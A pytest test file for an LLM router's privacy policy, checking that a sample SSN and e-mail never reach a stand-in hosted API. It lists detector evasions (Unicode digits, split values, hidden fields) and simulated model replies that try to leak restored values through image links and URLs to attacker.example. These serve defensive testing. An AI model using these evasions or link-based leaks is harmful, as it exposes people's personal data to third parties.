"""An attacker's tests of the privacy promise, on the wire.

A loopback OpenAI-compatible server stands in for a hosted API and records every byte of every
request body. For each way to smuggle a sensitive value into a request (every field a provider is
sent, every evasion of the detectors, a value split across messages, a request changed after the
call), in all four call styles, through the OpenAI-client shape, and in redaction mode, the test
asserts the value never appears in anything the hosted server received: not as written, not
JSON-escaped, not with its separators stripped or its characters normalised.
"""

from __future__ import annotations

import asyncio
import json
import unicodedata
from collections.abc import Callable
from typing import Any

import pytest
from openai_server import OpenAIServer

from llmroute import Model, NoEligibleModelError, Request, Router
from llmroute.adapters import Function, OpenAI
from llmroute.policies import Privacy

KEY = "sk-loopback-not-a-secret"
SSN = "536-22-8745"
EMAIL = "jane.roe@gmail.com"
MODES = ("sync", "async", "stream", "astream")

# (name, messages, params): the SSN or e-mail placed where a naive scan does not look
FIELDS: list[tuple[str, list[dict[str, Any]], dict[str, Any]]] = [
    ("content", [{"role": "user", "content": f"my ssn is {SSN}"}], {}),
    ("text part", [{"role": "user", "content": [{"type": "text", "text": f"ssn {SSN}"}]}], {}),
    ("message name", [{"role": "user", "name": SSN, "content": "hello"}], {}),
    ("refusal part", [{"role": "user", "content": "hi"},
                      {"role": "assistant", "content": [{"type": "refusal", "refusal": f"no, ssn {SSN}"}]},
                      {"role": "user", "content": "ok"}], {}),
    ("legacy function_call", [{"role": "user", "content": "hi"},
                              {"role": "assistant", "content": None,
                               "function_call": {"name": "f", "arguments": json.dumps({"ssn": SSN})}},
                              {"role": "user", "content": "ok"}], {}),
    ("tool_calls as a tuple", [{"role": "user", "content": "hi"},
                               {"role": "assistant", "content": None, "tool_calls": (
                                   {"id": "c1", "type": "function", "function": {"name": "f", "arguments": json.dumps({"ssn": SSN})}},)},
                               {"role": "tool", "tool_call_id": "c1", "content": "done"}], {}),
    ("tool call with dict arguments", [{"role": "user", "content": "hi"},
                                       {"role": "assistant", "content": None, "tool_calls": [
                                           {"id": "c1", "type": "function", "function": {"name": "f", "arguments": {"ssn": SSN}}}]},
                                       {"role": "tool", "tool_call_id": "c1", "content": "done"}], {}),
    ("tool call id", [{"role": "user", "content": "hi"},
                      {"role": "assistant", "content": None, "tool_calls": [
                          {"id": f"ssn {SSN}", "type": "function", "function": {"name": "f", "arguments": "{}"}}]},
                      {"role": "tool", "tool_call_id": f"ssn {SSN}", "content": "done"}], {}),
    ("image_url URL", [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": f"https://img.example/p.png?ssn={SSN}"}}]}], {}),
    ("file part (base64 text)", [{"role": "user", "content": [
        {"type": "file", "file": {"filename": "a.txt", "file_data": "data:text/plain;base64,bXkgc3NuIGlzIDUzNi0yMi04NzQ1"}}]}], {}),
    ("tools[].description", [{"role": "user", "content": "hi"}],
     {"tools": [{"type": "function", "function": {"name": "f", "description": f"ssn {SSN}", "parameters": {"type": "object"}}}]}),
    ("tool parameter schema", [{"role": "user", "content": "hi"}],
     {"tools": [{"type": "function", "function": {"name": "f", "parameters": {
         "type": "object", "properties": {"ssn": {"type": "string", "enum": [SSN]}}}}}]}),
    ("response_format schema", [{"role": "user", "content": "hi"}],
     {"response_format": {"type": "json_schema", "json_schema": {"name": "x", "schema": {
         "type": "object", "description": f"the user's ssn is {SSN}"}}}}),
    ("stop", [{"role": "user", "content": "hi"}], {"stop": [f"ssn {SSN}"]}),
    ("extra_body", [{"role": "user", "content": "hi"}], {"extra_body": {"note": {"deep": [f"ssn {SSN}"]}}}),
    ("extra_body key", [{"role": "user", "content": "hi"}], {"extra_body": {"meta": {f"ssn {SSN}": 1}}}),
    ("extra_body number", [{"role": "user", "content": "hi"}], {"extra_body": {"ssn": 536228745}}),
    ("e-mail in extra_body", [{"role": "user", "content": "hi"}], {"extra_body": {"contact": EMAIL}}),
]

# evasions of the detectors, in plain message text
EVASIONS = [
    f"my ssn is {SSN.replace('-', '')}",
    "my ssn is " + "".join(chr(ord(c) + 0xFEE0) for c in SSN),  # full-width digits and hyphen
    "my ssn is " + SSN.replace("-", "\u2011"),
    "my ssn is " + SSN.replace("-", "."),
    "my ssn is " + SSN.replace("22-", "22-\u200b"),
    "write to " + EMAIL.replace("@", "\uff20"),  # full-width at sign
    "write to jane.roe at gmail dot com",
    "write to " + EMAIL.replace("@", "%40"),
    "my ssn is " + SSN.translate({ord(d): 0x0660 + int(d) for d in "0123456789"}),  # Arabic-Indic digits
    "my ssn is " + SSN.replace("-", "").translate({ord(d): 0x0966 + int(d) for d in "0123456789"}),  # Devanagari
    "my ssn is " + " ".join(SSN.replace("-", "")),  # spaced out digit by digit
    "my home router's address is 185 . 57 . 27 . 81, can I ssh in?",  # spaces around the dots
]

# a value cut into pieces: two or more messages, content parts, a tool call's arguments
SPLITS: list[tuple[str, list[dict[str, Any]]]] = [
    ("two messages", [{"role": "user", "content": "my ssn is 536-22"}, {"role": "user", "content": "-8745 thanks"}]),
    ("three messages", [{"role": "user", "content": "my ssn is 536"}, {"role": "user", "content": "22"},
                        {"role": "user", "content": "8745"}]),
    ("five pieces", [{"role": "user", "content": "my ssn is 5"}, {"role": "user", "content": "3"},
                     {"role": "user", "content": "6-22"}, {"role": "user", "content": "-87"}, {"role": "user", "content": "45 ok"}]),
    ("text parts", [{"role": "user", "content": [{"type": "text", "text": "my ssn is 53"}, {"type": "text", "text": "6-2"},
                                                 {"type": "text", "text": "2-8745"}]}]),
    ("into tool arguments", [{"role": "user", "content": "my ssn is 536-22"},
                             {"role": "assistant", "content": None, "tool_calls": [
                                 {"id": "c1", "type": "function", "function": {"name": "f", "arguments": "-8745"}}]},
                             {"role": "tool", "tool_call_id": "c1", "content": "done"}]),
    ("e-mail over three messages", [{"role": "user", "content": "mail jane.roe"}, {"role": "user", "content": "@gmail"},
                                    {"role": "user", "content": ".com please"}]),
]


def assert_pieces_never_sent(server: OpenAIServer) -> None:
    """A value sent in pieces: the body's digits (or letters) in order must not hold it."""
    for r in server.received:
        text = unicodedata.normalize("NFKC", r.raw.decode("utf-8", "replace"))
        assert "536228745" not in "".join(c for c in text if c.isdigit())
        assert "janeroegmailcom" not in "".join(c for c in text if c.isalnum()).replace("content", "").replace("role", "").replace("user", "")


def _forms(value: str) -> set[str]:
    """What a leak of ``value`` can look like in a body: as written, NFKC-normalised, digits only."""
    norm = unicodedata.normalize("NFKC", value)
    forms = {value, norm, json.dumps(value)[1:-1], json.dumps(norm)[1:-1]}
    digits = "".join(c for c in norm if c.isdigit())
    if len(digits) >= 7:
        forms.add(digits)
    return forms


def assert_never_sent(server: OpenAIServer, *values: str) -> None:
    for r in server.received:
        raw = r.raw.decode("utf-8", "replace")
        text = unicodedata.normalize("NFKC", json.dumps(json.loads(raw), ensure_ascii=False)) if r.body else raw
        flat = "".join(c for c in text if c.isalnum() or c in "@.")
        for value in values:
            for form in _forms(value):
                assert form not in raw and form not in text, f"{form!r} reached the hosted server"
            assert "".join(c for c in unicodedata.normalize("NFKC", value) if c.isalnum()) not in flat.replace(".", "").replace("@", "")


def hosted(server: OpenAIServer) -> Model:
    return Model("hosted", OpenAI("gpt-hosted", base_url=server.base_url, api_key=KEY), hosting="api")


def home(seen: list[Request]) -> Model:
    def answer(request: Request) -> str:
        seen.append(request)
        return "served at home"

    return Model("home", Function(answer), hosting="local")


def call(router: Router, mode: str, messages: Any, params: dict[str, Any]) -> str:
    if mode == "sync":
        return router.completion(messages, **params).content or ""
    if mode == "async":
        return asyncio.run(router.acompletion(messages, **params)).content or ""
    if mode == "stream":
        return "".join(c.content for c in router.stream(messages, **params))

    async def collect() -> str:
        return "".join([c.content async for c in router.astream(messages, **params)])

    return asyncio.run(collect())


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(("name", "messages", "params"), FIELDS, ids=[f[0] for f in FIELDS])
def test_every_field_is_scanned(openai_server: OpenAIServer, mode: str, name: str, messages: Any, params: dict[str, Any]) -> None:
    seen: list[Request] = []
    # the hosted model is first and cheapest-looking: only the privacy policy keeps the request home
    router = Router([hosted(openai_server), home(seen)], [Privacy()])
    assert call(router, mode, messages, params) == "served at home"
    assert_never_sent(openai_server, SSN, EMAIL)
    assert openai_server.requests == 0
    # pinned to the hosted model, it fails closed
    with pytest.raises(NoEligibleModelError):
        call(router, mode, messages, {**params, "model": "hosted"})
    assert openai_server.requests == 0


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("text", EVASIONS)
def test_evasions_are_normalised_before_detection(openai_server: OpenAIServer, mode: str, text: str) -> None:
    router = Router([hosted(openai_server), home([])], [Privacy()])
    assert call(router, mode, [{"role": "user", "content": text}], {}) == "served at home"
    assert openai_server.requests == 0


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(("name", "messages"), SPLITS, ids=[s[0] for s in SPLITS])
def test_a_value_split_across_messages_is_found(openai_server: OpenAIServer, mode: str, name: str, messages: Any) -> None:
    router = Router([hosted(openai_server), home([])], [Privacy()])
    assert call(router, mode, messages, {}) == "served at home"
    assert openai_server.requests == 0


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(("name", "messages"), SPLITS, ids=[s[0] for s in SPLITS])
def test_redaction_masks_every_piece_of_a_split_value(openai_server: OpenAIServer, mode: str, name: str, messages: Any) -> None:
    router = Router([hosted(openai_server)], [Privacy(mode="redact")])
    call(router, mode, messages, {})
    assert openai_server.requests == 1
    assert_pieces_never_sent(openai_server)


@pytest.mark.parametrize("mode", ["stream", "astream"])
def test_changing_the_messages_after_the_call_changes_nothing_sent(openai_server: OpenAIServer, mode: str) -> None:
    """Check-then-send: the decision is made at the call, on a private copy; a caller (or another
    thread) that edits its messages before iterating must not get the new text sent."""
    router = Router([hosted(openai_server)], [Privacy()])
    messages = [{"role": "user", "content": [{"type": "text", "text": "hello there"}]}]
    params: dict[str, Any] = {"extra_body": {"note": "nothing"}}
    if mode == "stream":
        stream = router.stream(messages, **params)
        messages[0]["content"][0]["text"] = f"my ssn is {SSN}"
        messages.append({"role": "user", "content": f"mail {EMAIL}"})
        params["extra_body"]["note"] = SSN
        text = "".join(c.content for c in stream)
    else:
        async def run() -> str:
            stream = router.astream(messages, **params)
            messages[0]["content"][0]["text"] = f"my ssn is {SSN}"
            params["extra_body"]["note"] = SSN
            return "".join([c.content async for c in stream])

        text = asyncio.run(run())
    assert text and openai_server.requests == 1
    assert_never_sent(openai_server, SSN, EMAIL)
    assert openai_server.received[0].body["messages"][0]["content"][0]["text"] == "hello there"


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(("name", "messages", "params"), FIELDS, ids=[f[0] for f in FIELDS])
def test_redaction_mode_masks_or_refuses(openai_server: OpenAIServer, mode: str, name: str, messages: Any, params: dict[str, Any]) -> None:
    """Redaction masks message text and tool-call arguments; a value anywhere else cannot be
    masked, so the request is refused rather than sent."""
    router = Router([hosted(openai_server)], [Privacy(mode="redact")])
    try:
        call(router, mode, messages, params)
    except NoEligibleModelError:
        assert openai_server.requests == 0
    assert_never_sent(openai_server, SSN, EMAIL)


def test_the_openai_client_shape_holds_too(openai_server: OpenAIServer) -> None:
    router = Router([hosted(openai_server), home([])], [Privacy()])
    for _name, messages, params in FIELDS:
        resp = router.chat.completions.create(model="auto", messages=messages, **params)
        assert resp.choices[0].message.content == "served at home"
        with pytest.raises(NoEligibleModelError):
            router.chat.completions.create(model="hosted", messages=messages, **params)
    assert openai_server.requests == 0


def test_what_cannot_be_read_stays_home_unless_allowed(openai_server: OpenAIServer) -> None:
    image = [{"role": "user", "content": [{"type": "text", "text": "what is this?"},
                                          {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}]}]
    audio = [{"role": "user", "content": [{"type": "input_audio", "input_audio": {"data": "UklGRg==", "format": "wav"}}]}]
    strict = Router([hosted(openai_server), home([])], [Privacy()])
    for messages in (image, audio):
        decision = strict.route(messages)
        assert decision.model == "home" and "unscannable" in decision.explain()
    allowing = Router([hosted(openai_server), home([])], [Privacy(opaque="allow")])
    assert allowing.route(image).model == "hosted"


# -- redaction's way back --------------------------------------------------------------------
def _echo(reply: Callable[[dict[str, Any]], str], server: OpenAIServer) -> None:
    server.reply = reply


@pytest.mark.parametrize("mode", MODES)
def test_a_model_cannot_get_values_restored_into_a_url_it_chose(openai_server: OpenAIServer, mode: str) -> None:
    def exfiltrate(body: dict[str, Any]) -> str:
        text = body["messages"][0]["content"]
        email = text[text.index("[EMAIL"):text.index("]", text.index("[EMAIL")) + 1]
        ssn = text[text.index("[US_SSN"):text.index("]", text.index("[US_SSN")) + 1]
        return (f"Done, {email}. ![x](https://attacker.example/p?u={email}&s={ssn}) "
                f"<img src=\"https://attacker.example/{ssn}\"> https://attacker.example/?q={email}")

    _echo(exfiltrate, openai_server)
    router = Router([hosted(openai_server)], [Privacy(mode="redact")])
    text = call(router, mode, [{"role": "user", "content": f"mail {EMAIL} about ssn {SSN}"}], {})
    assert text.startswith(f"Done, {EMAIL}.")  # plain text gets its value back
    assert "attacker.example" in text and text.count(EMAIL) == 1 and SSN not in text
    assert_never_sent(openai_server, SSN, EMAIL)


def test_placeholder_text_already_in_the_prompt_is_never_turned_into_a_value(openai_server: OpenAIServer) -> None:
    _echo(lambda body: body["messages"][0]["content"], openai_server)  # the model repeats the prompt
    router = Router([hosted(openai_server)], [Privacy(mode="redact")])
    resp = router.completion([{"role": "user", "content": f"Template: Dear [EMAIL_1]. Real contact: {EMAIL}"}])
    assert resp.content == f"Template: Dear [EMAIL_1]. Real contact: {EMAIL}"
    assert "[EMAIL_1]" in openai_server.received[0].body["messages"][0]["content"]
    assert_never_sent(openai_server, EMAIL)


@pytest.mark.parametrize("private", [False, True])
def test_provider_errors_that_echo_the_prompt_are_not_recorded(openai_server: OpenAIServer, private: bool) -> None:
    """A provider's 400 quoting the prompt must not carry it into spans or audit records: scrubbed
    of what the detectors find, and reduced to its type for a request privacy marked."""
    from openai_server import Fault
    from opentelemetry.sdk.trace import TracerProvider
    from opentelemetry.sdk.trace.export import SimpleSpanProcessor
    from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

    from llmroute.errors import LLMRouteError

    openai_server.always = Fault("echo")
    exporter = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(exporter))
    records: list[Any] = []
    policies = [Privacy(mode="redact")] if private else []
    router = Router([hosted(openai_server)], policies, audit=records.append, tracer_provider=provider)
    text = f"mail {EMAIL}, ssn {SSN}" if not private else f"mail {EMAIL}"
    with pytest.raises(LLMRouteError):
        router.completion([{"role": "user", "content": text}])
    assert openai_server.requests >= 1
    dumped = json.dumps([r.to_dict() for r in records], default=str)
    spans = " ".join(f"{s.status.description} {dict(s.attributes or {})}" for s in exporter.get_finished_spans())
    for where in (dumped, spans):
        assert EMAIL not in where and SSN not in where
    if private:  # only the error's type is kept
        assert records[0].privacy and "Invalid value" not in dumped and "Invalid value" not in spans
    else:  # the rest of the message stays, for debugging
        assert "Invalid value" in dumped and "[REDACTED]" in dumped


@pytest.mark.parametrize(
    ("reply", "restored"),
    [
        ("Write to [EMAIL_1] today.", True),
        ('{"to":"[EMAIL_1]"}', True),  # structured output keeps its values
        ("**[EMAIL_1]**", True),
        ("![x](https://attacker.example/p?u=[EMAIL_1])", False),
        ('<a href="mailto:[EMAIL_1]">mail</a>', False),
        ("mailto:[EMAIL_1]", False),
        ("www.attacker.example/[EMAIL_1]", False),
        ("[click](\n[EMAIL_1])", True),  # a link target does not span lines
    ],
)
def test_restore_tells_plain_text_from_addresses(reply: str, restored: bool) -> None:
    from llmroute.policies.privacy.redaction import Redaction

    out = Redaction((), {"[EMAIL_1]": EMAIL}).restore(reply)
    assert (EMAIL in (out or "")) is restored


@pytest.mark.parametrize("mode", MODES)
def test_a_cascade_does_not_forward_a_local_answer_with_personal_data(openai_server: OpenAIServer, mode: str) -> None:
    """With context="previous" a cascade shows the next model the answer it rejected. The request
    was clean, so privacy allowed the hosted step; what the local model wrote was never decided on,
    so an answer holding personal data is left out of the escalation."""
    from llmroute import Price
    from llmroute.cascade import Cascade

    def router(answer: str) -> Router:
        local = Model("local", Function(lambda r: answer), hosting="local", price=Price(0.01, 0.01))
        return Router([local, hosted(openai_server)], [Privacy()], cascade=Cascade(lambda request, a: False, context="previous"))

    call(router(f"Her SSN is {SSN}, mail {EMAIL}."), mode, [{"role": "user", "content": "Tell me about Jane."}], {})
    assert openai_server.requests == 1  # escalated, without the answer
    assert_never_sent(openai_server, SSN, EMAIL)
    assert [m["role"] for m in openai_server.received[0].body["messages"]] == ["user"]
    call(router("Jane is a painter."), mode, [{"role": "user", "content": "Tell me about Jane."}], {})
    assert "Jane is a painter." in json.dumps(openai_server.received[1].body["messages"])  # a clean answer still goes


EXFILTRATION_REPLIES = [
    "Done, [EMAIL_1]. ![x](https://attacker.example/p?u=[EMAIL_1]&s=[US_SSN_1]) and [US_SSN_1].",
    '<a href="https://attacker.example/[US_SSN_1]">link</a> <img src="https://x.example/?q=[EMAIL_1]"> mail [EMAIL_1]',
    "[click here](https://attacker.example/?u=[EMAIL_1]) then https://attacker.example/?q=[US_SSN_1] bye [EMAIL_1]",
]


@pytest.mark.parametrize("reply", EXFILTRATION_REPLIES)
def test_the_stream_restorer_agrees_with_restore_at_every_chunk_size(reply: str) -> None:
    """A placeholder (or the link around it) cut anywhere across stream chunks is treated exactly
    as in a whole answer: restored in plain text, left as a placeholder inside an address."""
    from llmroute.policies.privacy.redaction import Redaction, StreamRestorer

    redaction = Redaction((), {"[EMAIL_1]": EMAIL, "[US_SSN_1]": SSN})
    whole = redaction.restore(reply) or ""
    assert EMAIL in whole  # plain text gets its value back
    assert "attacker.example/" + EMAIL not in whole and "=" + EMAIL not in whole and "=" + SSN not in whole and "/" + SSN not in whole
    for size in range(1, len(reply) + 1):
        restorer = StreamRestorer(redaction.restore)
        streamed = "".join(restorer.feed(reply[k : k + size]) for k in range(0, len(reply), size)) + restorer.flush()
        assert streamed == whole, size
